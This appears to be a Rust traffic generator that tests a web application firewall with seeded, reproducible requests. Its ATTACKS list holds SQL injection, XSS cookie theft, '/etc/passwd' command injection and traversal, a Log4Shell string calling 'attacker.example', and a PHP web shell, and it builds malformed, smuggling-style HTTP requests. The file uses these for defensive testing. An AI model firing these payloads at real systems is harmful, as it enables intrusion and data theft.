//! Mixed traffic for long runs: every request follows from a seed and its number.

use fastrand::Rng;

/// What a request is, and so what must become of it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Kind {
    /// Passes.
    Ordinary,
    /// Passes, whole: a file of 1 to 20 MB.
    Upload,
    /// Denied; the backend never hears of it.
    Attack,
    /// Passes, but the backend's answer is denied: it tells too much.
    Leak,
    /// No HTTP, or not to its end: refused or dropped, and the backend never hears of it.
    Broken,
}

impl Kind {
    /// The name that the request carries in the header [`MARK`].
    pub fn name(self) -> &'static str {
        match self {
            Self::Ordinary => "ordinary",
            Self::Upload => "upload",
            Self::Attack => "attack",
            Self::Leak => "leak",
            Self::Broken => "broken",
        }
    }
}

/// The header that tells the backend what it got.
pub const MARK: &str = "x-kind";

/// A request.
#[derive(Clone, Debug)]
pub struct Planned {
    pub kind: Kind,
    pub method: &'static str,
    pub target: String,
    pub headers: Vec<(&'static str, String)>,
    pub body: Vec<u8>,
    /// In pieces and without a length, where the protocol can.
    pub chunked: bool,
    /// Bytes to send as they are, for what is broken.
    pub raw: Vec<u8>,
}

/// The host that all requests are for.
pub const AUTHORITY: &str = "shop.example";

const WORDS: [&str; 24] = [
    "garden", "lamp", "blue", "window", "paper", "river", "chair", "music", "bread", "cloud",
    "stone", "yellow", "train", "silver", "apple", "winter", "letter", "harbour", "field",
    "candle", "mirror", "saddle", "ticket", "velvet",
];

/// Values that every rule set of worth denies, in an argument of any kind.
const ATTACKS: [&str; 8] = [
    "1' OR '1'='1' -- ",
    "1 UNION SELECT user, password FROM users--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "; cat /etc/passwd",
    "../../../../../../etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "<?php system($_GET['c']); ?>",
];

/// The request with this number: 10% attacks (a tenth of them leaks), 0.2% uploads, 1% broken.
pub fn request(seed: u64, number: u64) -> Planned {
    let mut rng = Rng::with_seed(seed ^ number.wrapping_mul(0x9E37_79B9_7F4A_7C15));
    match rng.u32(0..1000) {
        0..10 => broken(&mut rng),
        10..12 => upload(&mut rng),
        12..22 => leak(&mut rng),
        22..112 => attack(&mut rng),
        _ => ordinary(&mut rng),
    }
}

/// A request that carries an attack.
pub fn attack(rng: &mut Rng) -> Planned {
    let value = ATTACKS[rng.usize(0..ATTACKS.len())];
    match rng.u32(0..10) {
        0..4 => get(rng, Kind::Attack, value),
        4..6 => form(rng, Kind::Attack, value),
        6..8 => json(rng, Kind::Attack, value),
        _ => multipart(rng, Kind::Attack, value),
    }
}

/// A request that nobody has anything against.
pub fn ordinary(rng: &mut Rng) -> Planned {
    let value = words(rng, 3);
    match rng.u32(0..100) {
        0..60 => get(rng, Kind::Ordinary, &value),
        60..78 => form(rng, Kind::Ordinary, &value),
        78..92 => json(rng, Kind::Ordinary, &value),
        _ => multipart(rng, Kind::Ordinary, &value),
    }
}

fn upload(rng: &mut Rng) -> Planned {
    let size = rng.usize(1_000_000..=20_000_000);
    // Pieces of random bytes: made quickly, and no text.
    let piece: Vec<u8> = (0..4096).map(|_| rng.u8(..)).collect();
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    while file.len() < size {
        file.extend_from_slice(&piece);
    }
    let mut planned = multipart(rng, Kind::Upload, "holiday");
    planned.body = parts(
        "holiday",
        "content-disposition: form-data; name=\"file\"; filename=\"photo.png\"\r\n\
         content-type: image/png",
        &file,
    );
    planned.target = "/upload".to_owned();
    planned
}

fn leak(rng: &mut Rng) -> Planned {
    let mut planned = get(rng, Kind::Leak, "page");
    planned.target = format!("/report/{}", word(rng));
    planned
}

fn get(rng: &mut Rng, kind: Kind, value: &str) -> Planned {
    let target = format!(
        "/{}/{}?{}={}&page={}",
        word(rng),
        word(rng),
        word(rng),
        escaped(value),
        rng.u32(1..90)
    );
    planned(rng, kind, "GET", target, None)
}

fn form(rng: &mut Rng, kind: Kind, value: &str) -> Planned {
    let body = format!(
        "{}={}&name={}&note={}",
        word(rng),
        escaped(value),
        word(rng),
        escaped(&words(rng, 12))
    );
    let content = ("application/x-www-form-urlencoded", body.into_bytes());
    let target = format!("/{}", word(rng));
    planned(rng, kind, "POST", target, Some(content))
}

fn json(rng: &mut Rng, kind: Kind, value: &str) -> Planned {
    let items: Vec<_> = (0..rng.usize(1..20))
        .map(|_| serde_json::json!({ "sku": word(rng), "count": rng.u32(1..9) }))
        .collect();
    let body = serde_json::json!({ "note": value, "items": items, "express": rng.bool() });
    let content = ("application/json", body.to_string().into_bytes());
    let target = format!("/api/{}", word(rng));
    planned(rng, kind, "POST", target, Some(content))
}

const BOUNDARY: &str = "----parapet7MA4YWxkTrZu0gW";

fn multipart(rng: &mut Rng, kind: Kind, value: &str) -> Planned {
    let text = words(rng, 40);
    let body = parts(
        value,
        "content-disposition: form-data; name=\"file\"; filename=\"notes.txt\"\r\n\
         content-type: text/plain",
        text.as_bytes(),
    );
    let target = format!("/{}/new", word(rng));
    let content = (
        "multipart/form-data; boundary=----parapet7MA4YWxkTrZu0gW",
        body,
    );
    planned(rng, kind, "POST", target, Some(content))
}

/// A multipart body with a field and a file.
fn parts(field: &str, file_head: &str, file: &[u8]) -> Vec<u8> {
    let mut body = format!(
        "--{BOUNDARY}\r\ncontent-disposition: form-data; name=\"title\"\r\n\r\n{field}\r\n\
         --{BOUNDARY}\r\n{file_head}\r\n\r\n"
    )
    .into_bytes();
    body.extend_from_slice(file);
    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
    body
}

fn planned(
    rng: &mut Rng,
    kind: Kind,
    method: &'static str,
    target: String,
    content: Option<(&'static str, Vec<u8>)>,
) -> Planned {
    let mut headers = vec![
        (
            "user-agent",
            "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0".to_owned(),
        ),
        (
            "accept",
            "text/html,application/json;q=0.9,*/*;q=0.8".to_owned(),
        ),
        ("accept-language", "en-GB,en;q=0.5".to_owned()),
        ("cookie", format!("session={:x}; theme=dark", rng.u64(..))),
        (MARK, kind.name().to_owned()),
    ];
    let (content_type, body) = content.unwrap_or_default();
    if !content_type.is_empty() {
        headers.push(("content-type", content_type.to_owned()));
    }
    Planned {
        kind,
        method,
        target,
        headers,
        chunked: !body.is_empty() && rng.u32(0..4) == 0,
        body,
        raw: Vec::new(),
    }
}

/// What no client that means well sends.
fn broken(rng: &mut Rng) -> Planned {
    let attack = "q=%3Cscript%3Ealert(1)%3C/script%3E";
    let head = format!("POST /broken?{attack} HTTP/1.1\r\nHost: {AUTHORITY}\r\n{MARK}: broken\r\n");
    let text = match rng.u32(0..10) {
        0 => format!("GET /broken?{attack} HTTP/1.1\r\nHost: {AUTHORITY}\r\nX-Cut: of"),
        1 => format!("{head}Content-Length: 1000\r\n\r\n{attack}"),
        2 => format!("{head}Transfer-Encoding: chunked\r\n\r\nzz\r\n{attack}\r\n0\r\n\r\n"),
        3 => format!("BREW /broken?{attack} HTTP/1.1\r\nHost: {AUTHORITY}\r\n\r\n"),
        4 => format!("{head}X-Nul: a\0b\r\nContent-Length: 0\r\n\r\n"),
        5 => format!("{head}Content-Length: 3\r\nContent-Length: 4\r\n\r\na=bc"),
        6 => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nthis is no frame, and will never be one".to_owned(),
        7 => format!("{head}Transfer-Encoding: chunked\r\n\r\nff\r\n{attack}"),
        8 => format!("{head}X-Large: {}\r\n\r\n", "a".repeat(100_000)),
        _ => format!("GET /broken?{attack} HTTP/1.1\r\nX-No-Host: 1\r\n\r\n"),
    };
    Planned {
        kind: Kind::Broken,
        method: "",
        target: String::new(),
        headers: Vec::new(),
        body: Vec::new(),
        chunked: false,
        raw: text.into_bytes(),
    }
}

fn word(rng: &mut Rng) -> &'static str {
    WORDS[rng.usize(0..WORDS.len())]
}

fn words(rng: &mut Rng, count: usize) -> String {
    let words: Vec<_> = (0..count).map(|_| word(rng)).collect();
    words.join(" ")
}

/// A value as forms and queries carry it.
fn escaped(value: &str) -> String {
    let mut out = String::new();
    for byte in value.bytes() {
        match byte {
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'.' | b'_' => {
                out.push(char::from(byte));
            }
            b' ' => out.push('+'),
            _ => out.push_str(&format!("%{byte:02X}")),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::{Kind, request};
    use std::collections::BTreeMap;

    #[test]
    fn the_mix_is_as_promised_and_repeats() {
        let mut kinds = BTreeMap::<Kind, u32>::new();
        for number in 0..10_000 {
            *kinds.entry(request(1, number).kind).or_default() += 1;
        }
        for (kind, few, many) in [
            (Kind::Attack, 800, 1000),
            (Kind::Leak, 70, 130),
            (Kind::Broken, 70, 130),
            (Kind::Upload, 8, 35),
        ] {
            assert!((few..many).contains(&kinds[&kind]), "{kinds:?}");
        }
        assert_eq!(request(1, 77).target, request(1, 77).target);
    }

    #[test]
    fn uploads_are_large() {
        let upload = (0..).map(|number| request(2, number));
        let upload = upload
            .into_iter()
            .find(|it| it.kind == Kind::Upload)
            .unwrap();
        assert!((1_000_000..21_000_000).contains(&upload.body.len()));
        assert!(upload.body.ends_with(b"--\r\n"));
    }
}
